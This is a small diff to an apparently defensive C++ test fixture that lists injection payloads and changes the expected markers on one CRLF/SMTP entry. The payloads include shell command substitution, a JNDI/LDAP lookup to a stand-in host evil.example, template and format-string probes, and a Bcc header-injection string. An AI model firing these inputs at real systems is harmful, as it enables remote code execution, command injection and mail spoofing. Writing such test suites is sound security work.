@@ -63,7 +63,7 @@ inline const std::vector<Payload>& payloads() {
        "dmin",
        {}},
       {"$(touch /tmp/gwpwn) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", {}},
-      {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\r", "\nBcc"}},
+      {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\nBcc"}},
       {"=?utf-8?q?forged?= <a@evil.example>", {}},
       {std::string(5000, 'A'), {}},
   };
